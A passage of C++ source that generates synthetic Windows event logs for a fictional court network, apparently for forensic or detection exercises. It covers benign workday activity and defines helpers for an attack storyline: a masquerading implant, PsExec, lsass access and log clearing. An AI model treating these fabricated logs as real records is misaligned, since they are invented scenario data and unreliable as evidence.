// The scenario's Windows logs: Security, System, Sysmon and PowerShell EVTX
// files per host (DC01, FS01, RDS01, 30 workstations), as the court's event
// collector forwarded them. One job per host writes its four files: each day's
// background and story events are made, put in time order, and written.

#include <algorithm>
#include <cstring>
#include <filesystem>
#include <memory>
#include <optional>

#include "scenario_internal.h"
#include "vigil/read/evtx/writer.h"

namespace vigil::synth::scenario {

namespace {

using evtx::DataItem;
using evtx::EventBody;
using evtx::EventSpec;
using evtx::Guid;
using evtx::Sid;
using evtx::TypedValue;

enum Channel : uint8_t { kSecurity, kSystem, kSysmon, kPowerShell, kChannels };
constexpr std::array<const char*, kChannels> kChannelFiles = {
    "Security.evtx", "System.evtx", "Microsoft-Windows-Sysmon%4Operational.evtx",
    "Microsoft-Windows-PowerShell%4Operational.evtx"};

constexpr int kDcIndex = 0, kFsIndex = 1, kRdsIndex = 2, kFirstWorkstation = 3;

const Host& host_at(const World& w, int index) {
  if (index == kDcIndex) return w.dc;
  if (index == kFsIndex) return w.fs;
  if (index == kRdsIndex) return w.rds;
  return w.workstations[static_cast<size_t>(index - kFirstWorkstation)];
}

struct Ev {
  Timestamp time;
  Channel channel;
  EventSpec spec;
};

// Appends EventData items to an event under construction.
class Data {
 public:
  explicit Data(EventSpec& e) : e_(e) {}
  Data& s(const char* name, std::string_view v) { return add(name, TypedValue::string(v)); }
  Data& u32(const char* name, uint32_t v) { return add(name, TypedValue::uint32(v)); }
  Data& u16(const char* name, uint16_t v) { return add(name, TypedValue::uint16(v)); }
  Data& hex64(const char* name, uint64_t v) { return add(name, TypedValue::hex64(v)); }
  Data& hex32(const char* name, uint32_t v) { return add(name, TypedValue::hex32(v)); }
  Data& sid(const char* name, std::string_view text) {
    return add(name, TypedValue::sid(*Sid::parse(text)));
  }
  Data& guid(const char* name, const Guid& g) { return add(name, TypedValue::guid(g)); }
  Data& boolean(const char* name, bool v) { return add(name, TypedValue::boolean(v)); }

 private:
  Data& add(const char* name, TypedValue v) {
    e_.data.push_back(DataItem{name, std::move(v)});
    return *this;
  }
  EventSpec& e_;
};

const Guid kSecurityProvider = *Guid::parse("{54849625-5478-4994-A5BA-3E3B0328C30D}");
const Guid kEventlogProvider = *Guid::parse("{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}");
const Guid kSysmonProvider = *Guid::parse("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}");
const Guid kScmProvider = *Guid::parse("{555908D1-A6D7-4695-8E1E-26931D2012F4}");
const Guid kPowerShellProvider = *Guid::parse("{A0C1853B-5C40-4B15-8766-3CF1C58F985A}");

struct Account {
  std::string name;    // m.keller, WS-0412$, SYSTEM
  std::string domain;  // COURT, NT AUTHORITY
  std::string sid;
  uint64_t logon_id = 0x3e7;
};

Account system_account() { return {"SYSTEM", "NT AUTHORITY", "S-1-5-18", 0x3e7}; }

struct Image {
  const char* path;
  const char* description;
  const char* company;
  const char* original;
};

constexpr Image kExplorer = {"C:\\Windows\\explorer.exe", "Windows Explorer",
                             "Microsoft Corporation", "EXPLORER.EXE"};
constexpr Image kUserinit = {"C:\\Windows\\System32\\userinit.exe", "Userinit Logon Application",
                             "Microsoft Corporation", "USERINIT.EXE"};
constexpr Image kServices = {"C:\\Windows\\System32\\services.exe", "Services and Controller app",
                             "Microsoft Corporation", "services.exe"};
constexpr Image kSvchost = {"C:\\Windows\\System32\\svchost.exe",
                            "Host Process for Windows Services", "Microsoft Corporation",
                            "svchost.exe"};
constexpr Image kOutlook = {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                            "Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"};
constexpr Image kWord = {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                         "Microsoft Word", "Microsoft Corporation", "WinWord.exe"};
constexpr Image kExcel = {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                          "Microsoft Excel", "Microsoft Corporation", "Excel.exe"};
constexpr Image kChrome = {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                           "Google Chrome", "Google LLC", "chrome.exe"};
constexpr Image kAcrobat = {"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
                            "Adobe Acrobat", "Adobe Systems Incorporated", "Acrobat.exe"};
constexpr Image kTeams = {
    "C:\\Program Files\\WindowsApps\\MSTeams_24243.1309.3132.617_x64__8wekyb3d8bbwe\\ms-teams.exe",
    "Microsoft Teams", "Microsoft Corporation", "ms-teams.exe"};
constexpr Image kNotepad = {"C:\\Windows\\System32\\notepad.exe", "Notepad",
                            "Microsoft Corporation", "NOTEPAD.EXE"};
constexpr Image kCmd = {"C:\\Windows\\System32\\cmd.exe", "Windows Command Processor",
                        "Microsoft Corporation", "Cmd.Exe"};
constexpr Image kPowerShellExe = {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                  "Windows PowerShell", "Microsoft Corporation", "PowerShell.EXE"};
constexpr Image kGpupdate = {"C:\\Windows\\System32\\gpupdate.exe",
                             "Microsoft® Windows Group Policy Update", "Microsoft Corporation",
                             "gpupdate.exe"};
constexpr Image kMpCmdRun = {"C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
                             "Microsoft Malware Protection Command Line Utility",
                             "Microsoft Corporation", "MpCmdRun.exe"};
constexpr Image kMmc = {"C:\\Windows\\System32\\mmc.exe", "Microsoft Management Console",
                        "Microsoft Corporation", "mmc.exe"};
constexpr Image kImplant = {"C:\\Users\\m.keller\\AppData\\Roaming\\Microsoft\\Teams\\tmsync.exe",
                            "Teams Sync Helper", "-", "tmsync.exe"};
constexpr Image kWhoami = {"C:\\Windows\\System32\\whoami.exe",
                           "whoami - displays logged on user information", "Microsoft Corporation",
                           "whoami.exe"};
constexpr Image kNet = {"C:\\Windows\\System32\\net.exe", "Net Command", "Microsoft Corporation",
                        "net.exe"};
constexpr Image kNltest = {"C:\\Windows\\System32\\nltest.exe",
                           "Microsoft® Logon Server Test Utility", "Microsoft Corporation",
                           "nltestrk.exe"};
constexpr Image kRundll32 = {"C:\\Windows\\System32\\rundll32.exe",
                             "Windows host process (Rundll32)", "Microsoft Corporation",
                             "RUNDLL32.EXE"};
constexpr Image kPsExec = {"C:\\ProgramData\\Temp\\PsExec64.exe", "Execute processes remotely",
                           "Sysinternals - www.sysinternals.com", "psexec.c"};
constexpr Image kPsExeSvc = {"C:\\Windows\\PSEXESVC.exe", "PsExec Service",
                             "Sysinternals - www.sysinternals.com", "psexesvc.exe"};
constexpr Image kSevenZip = {"C:\\Program Files\\7-Zip\\7z.exe", "7-Zip Console", "Igor Pavlov",
                             "7z.exe"};
constexpr Image kCurl = {"C:\\Windows\\System32\\curl.exe", "The curl executable",
                         "curl, https://curl.se/", "curl.exe"};
constexpr Image kWevtutil = {"C:\\Windows\\System32\\wevtutil.exe", "Eventing Command Line Utility",
                             "Microsoft Corporation", "wevtutil.exe"};
constexpr Image kLsass = {"C:\\Windows\\System32\\lsass.exe", "Local Security Authority Process",
                          "Microsoft Corporation", "lsass.exe"};

struct Process {
  const Image* image = nullptr;
  std::string command_line;
  uint32_t pid = 0;
  Guid guid;
  Account user;
  std::string integrity = "Medium";
};

// Builds a host's events; every random choice comes from the host's own
// stream, so the host's files depend on nothing else.
class HostLog {
 public:
  HostLog(const World& w, int index, uint64_t seed)
      : w_(w), host_(host_at(w, index)), rng_(seed) {
    lsass_pid_ = 4 * rng_.between(150, 250);
    sysmon_pid_ = 4 * rng_.between(600, 1200);
    guid_prefix_ = static_cast<uint32_t>(rng_.next());
    services_.image = &kServices;
    services_.command_line = "C:\\Windows\\system32\\services.exe";
    services_.pid = 4 * rng_.between(150, 200);
    services_.guid = guid();
    services_.user = system_account();
    services_.integrity = "System";
  }

  Rng& rng() { return rng_; }
  std::vector<Ev>& events() { return events_; }
  const Host& host() const { return host_; }
  const Process& services() const { return services_; }

  Guid guid() {
    Guid g;
    const uint64_t a = rng_.next(), b = rng_.next();
    for (int i = 0; i < 8; ++i) {
      g.bytes[static_cast<size_t>(i)] = static_cast<uint8_t>(a >> (8 * i));
      g.bytes[static_cast<size_t>(8 + i)] = static_cast<uint8_t>(b >> (8 * i));
    }
    std::memcpy(g.bytes.data(), &guid_prefix_, 4);
    return g;
  }

  Account user(const Person& p, uint64_t logon_id) const {
    return {p.account, w_.netbios, p.sid, logon_id};
  }

  Account machine() const { return {host_.name + "$", w_.netbios, w_.domain_sid + "-1001", 0x3e7}; }

  EventSpec& add(Channel channel, Timestamp t) {
    events_.push_back(Ev{t, channel, {}});
    EventSpec& e = events_.back().spec;
    e.time_created = t;
    e.computer = host_.fqdn;
    return e;
  }

  EventSpec& security(uint16_t id, uint8_t version, uint16_t task, Timestamp t,
                      bool success = true) {
    EventSpec& e = add(kSecurity, t);
    e.provider_name = "Microsoft-Windows-Security-Auditing";
    e.provider_guid = kSecurityProvider;
    e.event_id = id;
    e.version = version;
    e.task = task;
    e.keywords = success ? 0x8020000000000000ULL : 0x8010000000000000ULL;
    e.channel = "Security";
    e.process_id = lsass_pid_;
    e.thread_id = lsass_pid_ + 4 * rng_.between(1, 60);
    return e;
  }

  EventSpec& sysmon(uint16_t id, uint8_t version, Timestamp t) {
    EventSpec& e = add(kSysmon, t);
    e.provider_name = "Microsoft-Windows-Sysmon";
    e.provider_guid = kSysmonProvider;
    e.event_id = id;
    e.version = version;
    e.level = 4;
    e.task = id;
    e.keywords = 0x8000000000000000ULL;
    e.channel = "Microsoft-Windows-Sysmon/Operational";
    e.process_id = sysmon_pid_;
    e.thread_id = sysmon_pid_ + 4 * rng_.between(1, 40);
    e.user_id = *Sid::parse("S-1-5-18");
    return e;
  }

  EventSpec& scm(uint16_t id, Timestamp t, std::string_view user_sid) {
    EventSpec& e = add(kSystem, t);
    e.provider_name = "Service Control Manager";
    e.provider_guid = kScmProvider;
    e.event_source_name = "Service Control Manager";
    e.event_id = id;
    e.qualifiers = 16384;
    e.level = 4;
    e.keywords = 0x8080000000000000ULL;
    e.channel = "System";
    e.process_id = services_.pid;
    e.thread_id = services_.pid + 4 * rng_.between(1, 30);
    e.user_id = *Sid::parse(user_sid);
    return e;
  }

  void utc(Data& d, const char* name, Timestamp t) {
    const CivilTime c = to_civil(t);
    std::string out;
    add_padded(out, static_cast<uint64_t>(c.year), 4);
    out += '-';
    add_padded(out, c.month, 2);
    out += '-';
    add_padded(out, c.day, 2);
    out += ' ';
    add_padded(out, c.hour, 2);
    out += ':';
    add_padded(out, c.minute, 2);
    out += ':';
    add_padded(out, c.second, 2);
    out += '.';
    add_padded(out, c.ticks / 10000, 3);
    d.s(name, out);
  }

  static std::string qualified(const Account& a) { return a.domain + "\\" + a.name; }

  Process start(Timestamp t, const Process& parent, const Image& image, std::string command_line,
                const Account& user, std::string integrity = "Medium",
                std::string current_directory = "") {
    Process p;
    p.image = &image;
    p.command_line = std::move(command_line);
    p.pid = 4 * rng_.between(300, 16000);
    p.guid = guid();
    p.user = user;
    p.integrity = std::move(integrity);
    if (current_directory.empty()) {
      current_directory = user.domain == w_.netbios && user.name.back() != '$'
                              ? "C:\\Users\\" + user.name + "\\"
                              : "C:\\Windows\\system32\\";
    }
    EventSpec& s = sysmon(1, 5, t);
    Data d(s);
    d.s("RuleName", "-");
    utc(d, "UtcTime", t);
    d.guid("ProcessGuid", p.guid).u32("ProcessId", p.pid).s("Image", image.path);
    d.s("FileVersion", "-").s("Description", image.description).s("Product", image.description);
    d.s("Company", image.company).s("OriginalFileName", image.original);
    d.s("CommandLine", p.command_line).s("CurrentDirectory", current_directory);
    d.s("User", qualified(user));
    Guid logon_guid = guid();
    d.guid("LogonGuid", logon_guid).hex64("LogonId", user.logon_id);
    d.u32("TerminalSessionId", user.logon_id == 0x3e7 ? 0 : 1).s("IntegrityLevel", p.integrity);
    std::string hashes = "SHA256=";
    for (int i = 0; i < 4; ++i) add_hex(hashes, hash_of(image.path, i), 16, true);
    d.s("Hashes", hashes);
    d.guid("ParentProcessGuid", parent.guid).u32("ParentProcessId", parent.pid);
    d.s("ParentImage", parent.image->path).s("ParentCommandLine", parent.command_line);
    d.s("ParentUser", qualified(parent.user));

    EventSpec& e = security(4688, 2, 13312, t);
    Data q(e);
    q.sid("SubjectUserSid", user.sid).s("SubjectUserName", user.name);
    q.s("SubjectDomainName", user.domain).hex64("SubjectLogonId", user.logon_id);
    q.hex64("NewProcessId", p.pid).s("NewProcessName", image.path);
    q.s("TokenElevationType", p.integrity == "High" ? "%%1937" : "%%1936");
    q.hex64("ProcessId", parent.pid).s("CommandLine", p.command_line);
    q.sid("TargetUserSid", "S-1-0-0").s("TargetUserName", "-").s("TargetDomainName", "-");
    q.hex64("TargetLogonId", 0).s("ParentProcessName", parent.image->path);
    q.sid("MandatoryLabel", p.integrity == "System" ? "S-1-16-16384"
                            : p.integrity == "High" ? "S-1-16-12288"
                                                    : "S-1-16-8192");
    return p;
  }

  void connect(Timestamp t, const Process& p, const std::string& ip, uint16_t port,
               const std::string& hostname) {
    EventSpec& s = sysmon(3, 5, t);
    Data d(s);
    d.s("RuleName", "-");
    utc(d, "UtcTime", t);
    d.guid("ProcessGuid", p.guid).u32("ProcessId", p.pid).s("Image", p.image->path);
    d.s("User", qualified(p.user)).s("Protocol", "tcp").boolean("Initiated", true);
    d.boolean("SourceIsIpv6", false).s("SourceIp", host_.ip).s("SourceHostname", host_.fqdn);
    d.u16("SourcePort", static_cast<uint16_t>(rng_.between(49152, 65000)));
    d.s("SourcePortName", "-").boolean("DestinationIsIpv6", false).s("DestinationIp", ip);
    d.s("DestinationHostname", hostname).u16("DestinationPort", port);
    d.s("DestinationPortName", port == 445 ? "microsoft-ds" : "-");
  }

  void file_created(Timestamp t, const Process& p, const std::string& path) {
    EventSpec& s = sysmon(11, 2, t);
    Data d(s);
    d.s("RuleName", "-");
    utc(d, "UtcTime", t);
    d.guid("ProcessGuid", p.guid).u32("ProcessId", p.pid).s("Image", p.image->path);
    d.s("TargetFilename", path);
    utc(d, "CreationUtcTime", t);
    d.s("User", qualified(p.user));
  }

  void process_access(Timestamp t, const Process& source, uint32_t target_pid,
                      const Guid& target_guid, const char* access) {
    EventSpec& s = sysmon(10, 3, t);
    Data d(s);
    d.s("RuleName", "-");
    utc(d, "UtcTime", t);
    d.guid("SourceProcessGUID", source.guid).u32("SourceProcessId", source.pid);
    d.u32("SourceThreadId", source.pid + 8).s("SourceImage", source.image->path);
    d.guid("TargetProcessGUID", target_guid).u32("TargetProcessId", target_pid);
    d.s("TargetImage", kLsass.path).s("GrantedAccess", access);
    d.s("CallTrace",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
        "UNKNOWN(00000000002A1F7C)");
    d.s("SourceUser", qualified(source.user)).s("TargetUser", "NT AUTHORITY\\SYSTEM");
  }

  void logon(Timestamp t, const Account& who, uint32_t type, const std::string& ip,
             const std::string& workstation, bool kerberos) {
    EventSpec& e = security(4624, 2, 12544, t);
    Data d(e);
    const bool network = type == 3;
    if (network) {
      d.sid("SubjectUserSid", "S-1-0-0").s("SubjectUserName", "-").s("SubjectDomainName", "-");
      d.hex64("SubjectLogonId", 0);
    } else {
      d.sid("SubjectUserSid", "S-1-5-18").s("SubjectUserName", host_.name + "$");
      d.s("SubjectDomainName", w_.netbios).hex64("SubjectLogonId", 0x3e7);
    }
    d.sid("TargetUserSid", who.sid).s("TargetUserName", who.name).s("TargetDomainName", w_.netbios);
    d.hex64("TargetLogonId", who.logon_id).u32("LogonType", type);
    d.s("LogonProcessName", kerberos ? "Kerberos" : network ? "NtLmSsp " : "User32 ");
    d.s("AuthenticationPackageName", kerberos ? "Kerberos" : network ? "NTLM" : "Negotiate");
    d.s("WorkstationName", network && !kerberos ? workstation : host_.name);
    d.guid("LogonGuid", kerberos ? guid() : Guid{});
    d.s("TransmittedServices", "-").s("LmPackageName", network && !kerberos ? "NTLM V2" : "-");
    d.u32("KeyLength", network && !kerberos ? 128 : 0);
    d.hex64("ProcessId", network ? 0 : lsass_pid_);
    d.s("ProcessName", network ? "-" : "C:\\Windows\\System32\\svchost.exe");
    d.s("IpAddress", ip.empty() ? "-" : ip);
    d.s("IpPort", ip.empty() ? "-" : std::to_string(rng_.between(49152, 65000)));
    d.s("ImpersonationLevel", "%%1833").s("RestrictedAdminMode", type == 10 ? "%%1843" : "-");
    d.s("TargetOutboundUserName", "-").s("TargetOutboundDomainName", "-");
    d.s("VirtualAccount", "%%1843").hex64("TargetLinkedLogonId", 0);
    d.s("ElevatedToken", who.name.rfind("adm.", 0) == 0 ? "%%1842" : "%%1843");
  }

  void logoff(Timestamp t, const Account& who, uint32_t type) {
    EventSpec& e = security(4634, 0, 12545, t);
    Data d(e);
    d.sid("TargetUserSid", who.sid).s("TargetUserName", who.name).s("TargetDomainName", w_.netbios);
    d.hex64("TargetLogonId", who.logon_id).u32("LogonType", type);
  }

  void failed_logon(Timestamp t, const std::string& account, const std::string& ip,
                    const std::string& workstation, bool no_such_user) {
    EventSpec& e = security(4625, 0, 12544, t, false);
    Data d(e);
    d.sid("SubjectUserSid", "S-1-0-0").s("SubjectUserName", "-").s("SubjectDomainName", "-");
    d.hex64("SubjectLogonId", 0).sid("TargetUserSid", "S-1-0-0").s("TargetUserName", account);
    d.s("TargetDomainName", no_such_user ? "" : w_.netbios).hex32("Status", 0xc000006d);
    d.s("FailureReason", "%%2313").hex32("SubStatus", no_such_user ? 0xc0000064 : 0xc000006a);
    d.u32("LogonType", 3).s("LogonProcessName", "NtLmSsp ").s("AuthenticationPackageName", "NTLM");
    d.s("WorkstationName", workstation).s("TransmittedServices", "-").s("LmPackageName", "-");
    d.u32("KeyLength", 0).hex64("ProcessId", 0).s("ProcessName", "-").s("IpAddress", ip);
    d.s("IpPort", "0");
  }

  void share_access(Timestamp t, const Account& who, const std::string& ip, const char* share,
                    const char* local, const std::string& relative, bool read_file) {
    EventSpec& e = security(5145, 0, 12811, t);
    Data d(e);
    d.sid("SubjectUserSid", who.sid).s("SubjectUserName", who.name);
    d.s("SubjectDomainName", who.domain).hex64("SubjectLogonId", who.logon_id);
    d.s("ObjectType", "File").s("IpAddress", ip).u32("IpPort", rng_.between(49152, 65000));
    d.s("ShareName", share).s("ShareLocalPath", local).s("RelativeTargetName", relative);
    d.hex32("AccessMask", read_file ? 0x120089 : 0x100081);
    d.s("AccessList", read_file ? "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%"
                                  "4419\r\n\t\t\t\t%%4423\r\n\t\t\t\t"
                                : "%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4423\r\n\t\t\t\t");
    d.s("AccessReason", "-");
  }

  void share_session(Timestamp t, const Account& who, const std::string& ip, const char* share,
                     const char* local) {
    EventSpec& e = security(5140, 1, 12808, t);
    Data d(e);
    d.sid("SubjectUserSid", who.sid).s("SubjectUserName", who.name);
    d.s("SubjectDomainName", who.domain).hex64("SubjectLogonId", who.logon_id);
    d.s("ObjectType", "File").s("IpAddress", ip).u32("IpPort", rng_.between(49152, 65000));
    d.s("ShareName", share).s("ShareLocalPath", local).hex32("AccessMask", 0x1);
    d.s("AccessList", "%%4416\r\n\t\t\t\t");
  }

  void object_read(Timestamp t, const Account& who, const std::string& path) {
    EventSpec& e = security(4663, 1, 12800, t);
    Data d(e);
    d.sid("SubjectUserSid", who.sid).s("SubjectUserName", who.name);
    d.s("SubjectDomainName", who.domain).hex64("SubjectLogonId", who.logon_id);
    d.s("ObjectServer", "Security").s("ObjectType", "File").s("ObjectName", path);
    d.hex64("HandleId", 4 * rng_.between(64, 9000)).s("AccessList", "%%4416\r\n\t\t\t\t");
    d.hex32("AccessMask", 0x1).hex64("ProcessId", 0x4).s("ProcessName", "");
    d.s("ResourceAttributes", "S:AI");
  }

  void service_installed(Timestamp t, const Account& who, const std::string& name,
                         const std::string& image_path) {
    EventSpec& e = scm(7045, t, who.sid);
    Data d(e);
    d.s("ServiceName", name).s("ImagePath", image_path).s("ServiceType", "user mode service");
    d.s("StartType", "demand start").s("AccountName", "LocalSystem");
    EventSpec& s = security(4697, 0, 12289, t);
    Data q(s);
    q.sid("SubjectUserSid", who.sid).s("SubjectUserName", who.name);
    q.s("SubjectDomainName", who.domain).hex64("SubjectLogonId", who.logon_id);
    q.s("ServiceName", name).s("ServiceFileName", image_path).hex32("ServiceType", 0x10);
    q.u32("ServiceStartType", 3).s("ServiceAccount", "LocalSystem");
  }

  void service_state(Timestamp t, const char* service, const char* state) {
    EventSpec& e = scm(7036, t, "S-1-5-18");
    e.user_id.reset();
    Data d(e);
    d.s("param1", service).s("param2", state);
  }

  void security_log_cleared(Timestamp t, const Account& who) {
    EventSpec& e = add(kSecurity, t);
    e.provider_name = "Microsoft-Windows-Eventlog";
    e.provider_guid = kEventlogProvider;
    e.event_id = 1102;
    e.level = 4;
    e.task = 104;
    e.keywords = 0x4020000000000000ULL;
    e.channel = "Security";
    e.process_id = 4 * rng_.between(200, 400);
    e.thread_id = 4 * rng_.between(1000, 3000);
    e.body = EventBody::kUserData;
    e.user_data_element = "LogFileCleared";
    e.user_data_attributes.emplace_back(
        "xmlns", "http://manifests.microsoft.com/win/2004/08/windows/eventlog");
    Data d(e);
    d.sid("SubjectUserSid", who.sid).s("SubjectUserName", who.name);
    d.s("SubjectDomainName", who.domain).hex64("SubjectLogonId", who.logon_id);
  }

  void system_log_cleared(Timestamp t, const Account& who) {
    EventSpec& e = add(kSystem, t);
    e.provider_name = "Microsoft-Windows-Eventlog";
    e.provider_guid = kEventlogProvider;
    e.event_id = 104;
    e.level = 4;
    e.task = 104;
    e.keywords = 0x8000000000000000ULL;
    e.channel = "System";
    e.process_id = 4 * rng_.between(200, 400);
    e.thread_id = 4 * rng_.between(1000, 3000);
    e.user_id = *Sid::parse(who.sid);
    e.body = EventBody::kUserData;
    e.user_data_element = "LogFileCleared";
    e.user_data_attributes.emplace_back(
        "xmlns", "http://manifests.microsoft.com/win/2004/08/windows/eventlog");
    Data d(e);
    d.s("SubjectUserName", who.name).s("SubjectDomainName", who.domain);
    d.s("Channel", "System").s("BackupPath", "");
  }

  void script_block(Timestamp t, const Account& who, const std::string& text, bool warning) {
    EventSpec& e = add(kPowerShell, t);
    e.provider_name = "Microsoft-Windows-PowerShell";
    e.provider_guid = kPowerShellProvider;
    e.event_id = 4104;
    e.version = 1;
    e.level = warning ? 3 : 5;
    e.task = 2;
    e.opcode = 15;
    e.keywords = 0;
    e.channel = "Microsoft-Windows-PowerShell/Operational";
    e.process_id = 4 * rng_.between(300, 16000);
    e.thread_id = 4 * rng_.between(300, 16000);
    e.user_id = *Sid::parse(who.sid);
    Data d(e);
    d.u32("MessageNumber", 1).u32("MessageTotal", 1).s("ScriptBlockText", text);
    std::string id;
    const Guid g = guid();
    for (size_t i = 0; i < 16; ++i) {
      if (i == 4 || i == 6 || i == 8 || i == 10) id += '-';
      add_hex(id, g.bytes[i], 2, false);
    }
    d.s("ScriptBlockId", id).s("Path", "");
  }

  uint32_t lsass_pid() const { return lsass_pid_; }

 private:
  static uint64_t hash_of(std::string_view text, int round) {
    return derive_seed(static_cast<uint64_t>(round), text);
  }

  const World& w_;
  const Host& host_;
  Rng rng_;
  uint32_t lsass_pid_ = 0, sysmon_pid_ = 0, guid_prefix_ = 0;
  Process services_;
  std::vector<Ev> events_;
};

Timestamp plus(Timestamp t, int64_t ticks) { return Timestamp{t.ticks + ticks}; }

Timestamp random_between(Rng& rng, Timestamp from, Timestamp to) {
  const int64_t span = std::max<int64_t>(1, (to.ticks - from.ticks) / kSecond);
  return Timestamp{from.ticks +
                   static_cast<int64_t>(rng.next() % static_cast<uint64_t>(span)) * kSecond +
                   rng.below(1000) * 10000};
}

std::string share_relative(const Case& c, Folder f, const Document& d) {
  return c.id + "\\" + folder_name(f) + "\\" + d.name;
}

// The assets a person may open: (case, folder) pairs.
std::vector<std::pair<int, Folder>> allowed_folders(const Person& p, size_t cases) {
  std::vector<std::pair<int, Folder>> out;
  switch (p.role) {
    case Role::kJudge:
    case Role::kLegalOfficer:
      for (int c : p.cases) {
        out.emplace_back(c, Folder::kFilings);
        out.emplace_back(c, Folder::kWitnesses);
        out.emplace_back(c, Folder::kVictims);
      }
      break;
    case Role::kRegistry:
      for (size_t c = 0; c < cases; ++c) out.emplace_back(static_cast<int>(c), Folder::kFilings);
      break;
    case Role::kWitnessProtection:
      for (size_t c = 0; c < cases; ++c) {
        out.emplace_back(static_cast<int>(c), Folder::kWitnesses);
        out.emplace_back(static_cast<int>(c), Folder::kVictims);
      }
      break;
    case Role::kTrainee:
      for (int c : p.cases) out.emplace_back(c, Folder::kFilings);
      break;
    default: break;
  }
  return out;
}

struct WorkDay {
  Timestamp arrive, leave;
  uint64_t logon_id;
};

// When a person works on a day (none on weekends), the same for every host's job.
std::optional<WorkDay> work_day(const World& w, int person, int day) {
  if (is_weekend(day)) return std::nullopt;
  Rng rng(derive_seed(w.seed, "workday/" + std::to_string(person) + "/" + std::to_string(day)));
  if (rng.percent(4)) return std::nullopt;  // leave, illness
  WorkDay d;
  d.arrive = plus(day_start(day), 7 * kHour + 45 * kMinute + rng.below(90 * 60) * kSecond);
  d.leave = plus(day_start(day), 16 * kHour + 30 * kMinute + rng.below(150 * 60) * kSecond);
  d.logon_id = 0x100000 + (rng.next() & 0xFFFFFF);
  return d;
}

// --- Background -------------------------------------------------------------------------

void workstation_day(HostLog& log, const World& w, int ws, int day) {
  Rng& rng = log.rng();
  const uint32_t scale = w.scale;
  // Inert system activity every day, growing with the scale.
  for (uint32_t i = 0; i < 2 * scale; ++i) {
    const Timestamp t = random_between(rng, day_start(day), day_start(day + 1));
    log.service_state(t, i % 2 == 0 ? "Windows Update" : "Background Intelligent Transfer Service",
                      rng.percent(50) ? "running" : "stopped");
  }
  for (uint32_t i = 0; i < scale; ++i) {
    const Timestamp t = random_between(rng, day_start(day), day_start(day + 1));
    log.start(t, log.services(), kSvchost,
              "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv", system_account(),
              "System");
    log.start(plus(t, 30 * kSecond), log.services(), kMpCmdRun,
              "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -SignatureUpdate -ScheduleJob",
              system_account(), "System");
  }
  if (day == 19) {  // a browser update installs its service on every workstation
    log.service_installed(
        plus(day_start(day), 12 * kHour + rng.below(3600) * kSecond), system_account(),
        "MicrosoftEdgeElevationService",
        "\"C:\\Program Files "
        "(x86)\\Microsoft\\Edge\\Application\\130.0.2849.56\\elevation_service.exe\"");
  }
  int person = -1;
  for (size_t p = 0; p < w.people.size(); ++p) {
    if (w.people[p].workstation == ws) person = static_cast<int>(p);
  }
  if (person < 0) return;
  const Person& p = w.people[static_cast<size_t>(person)];
  const auto wd = work_day(w, person, day);
  if (!wd) return;
  const Account me = log.user(p, wd->logon_id);
  log.logon(wd->arrive, me, 2, "127.0.0.1", "", false);
  const Process userinit = log.start(plus(wd->arrive, 2 * kSecond), log.services(), kUserinit,
                                     "C:\\Windows\\system32\\userinit.exe", me);
  const Process explorer = log.start(plus(wd->arrive, 4 * kSecond), userinit, kExplorer,
                                     "C:\\Windows\\Explorer.EXE", me);
  log.script_block(plus(wd->arrive, 20 * kSecond), me,
                   "# Court logon script: map the department drives\r\n"
                   "New-PSDrive -Name H -PSProvider FileSystem -Root \\\\fs01.court.local\\home\\" +
                       p.account + " -Persist -ErrorAction SilentlyContinue | Out-Null",
                   false);
  const Process outlook = log.start(plus(wd->arrive, 40 * kSecond), explorer, kOutlook,
                                    std::string("\"") + kOutlook.path + "\" ", me);
  (void)outlook;
  const auto folders = allowed_folders(p, w.cases.size());
  const uint32_t apps = 6 * scale;
  for (uint32_t i = 0; i < apps; ++i) {
    const Timestamp t = random_between(rng, plus(wd->arrive, kMinute), wd->leave);
    const uint32_t which = rng.below(7);
    std::string doc = "C:\\Users\\" + p.account + "\\Documents\\notes_";
    add_dec(doc, rng.below(40));
    switch (which) {
      case 0:
      case 1: {
        const Process chrome =
            log.start(t, explorer, kChrome, std::string("\"") + kChrome.path + "\" ", me);
        for (uint32_t k = 0; k < 3; ++k) {
          log.connect(plus(t, (k + 1) * 7 * kSecond), chrome, w.proxy.ip, 3128, w.proxy.fqdn);
        }
        if (rng.percent(30)) {
          std::string path = "C:\\Users\\" + p.account + "\\Downloads\\";
          path += rng.percent(50) ? "hearing_schedule_" : "legal_brief_";
          add_dec(path, rng.below(900));
          path += ".pdf";
          log.file_created(plus(t, 40 * kSecond), chrome, path);
        }
        break;
      }
      case 2:
      case 3: {
        std::string cmd = std::string("\"") + kWord.path + "\" /n \"";
        if (!folders.empty() && rng.percent(50)) {
          // Documents on the share are opened with Acrobat or Word; the share read
          // itself is in FS01's log.
          cmd += "\\\\fs01.court.local\\cases\\";
          const auto& [c, f] = folders[rng.below(static_cast<uint32_t>(folders.size()))];
          cmd += w.cases[static_cast<size_t>(c)].id;
          cmd += "\\";
          cmd += folder_name(f);
          cmd += "\\notes.docx\"";
        } else {
          cmd += doc + ".docx\"";
        }
        log.start(t, explorer, kWord, cmd, me);
        break;
      }
      case 4:
        log.start(t, explorer, kExcel,
                  std::string("\"") + kExcel.path + "\" \"" + doc + "_table.xlsx\"", me);
        break;
      case 5:
        log.start(t, explorer, kAcrobat,
                  std::string("\"") + kAcrobat.path + "\" \"C:\\Users\\" + p.account +
                      "\\Downloads\\hearing_schedule.pdf\"",
                  me);
        break;
      default:
        log.start(t, explorer, rng.percent(50) ? kTeams : kNotepad,
                  rng.percent(50) ? std::string("\"") + kTeams.path + "\""
                                  : "notepad.exe " + doc + ".txt",
                  me);
    }
  }
